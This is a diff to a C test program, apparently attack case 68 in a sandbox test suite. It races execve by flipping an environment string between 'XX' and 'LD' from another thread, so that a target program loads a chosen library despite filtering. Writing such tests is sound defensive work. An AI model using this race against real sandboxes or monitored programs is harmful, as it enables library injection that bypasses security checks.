@@ -1,16 +1,25 @@
-// 68: makes the program that it runs load a library: preload PROGRAM LIBRARY (plain | swapped). Swapped, a process that shares its memory puts the variable there
+// 68: makes the program that it runs load a library: preload PROGRAM LIBRARY (plain | swapped). Swapped, another thread puts the variable there
 // while the exec is under way.
 #include "attack.h"
-#include <sched.h>
+#include <pthread.h>
 
 static char variable[PATH_MAX + 16], harmless[PATH_MAX + 16], wanted[PATH_MAX + 16];
-static char stack[1 << 16];
 static char **arguments, *environment[4];
 
-static int execute(void *data) {
-  (void)data;
+static int execute(void) {
   execve(arguments[0], arguments, environment);
   _exit(111);
+}
+
+static void *swap(void *data) {
+  (void)data;
+  for (volatile char *const start = variable;;) {
+    start[0] = 'L', start[1] = 'D';
+    for (volatile int spin = 0; spin < 20000; spin++) continue;
+    start[0] = 'X', start[1] = 'X';
+    for (volatile int spin = 0; spin < 20000; spin++) continue;
+  }
+  return NULL;
 }
 
 int main(int argc, char **argv) {
@@ -24,18 +33,16 @@ int main(int argc, char **argv) {
   arguments = program;
   environment[0] = variable;
   environment[1] = swapped ? NULL : "LD_AUDIT=/nowhere";
-  if (!swapped) return execute(NULL);
-  volatile char *const start = variable;
+  if (!swapped) return execute();
   for (int round = 0; round < 40; round++) {
-    strcpy(variable, harmless);
-    // Its parent goes on, with the same memory.
-    const pid_t child = clone(execute, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
-    for (int status; waitpid(child, &status, WNOHANG) == 0;) {
-      start[0] = 'L', start[1] = 'D';
-      for (volatile int spin = 0; spin < 20000; spin++) continue;
-      start[0] = 'X', start[1] = 'X';
-      for (volatile int spin = 0; spin < 20000; spin++) continue;
+    const pid_t child = fork();
+    if (child == 0) {
+      pthread_t thread;
+      pthread_create(&thread, NULL, swap, NULL);
+      usleep((useconds_t)(round * 50));
+      execute();
     }
+    waitpid(child, NULL, 0);
   }
   return 0;
 }
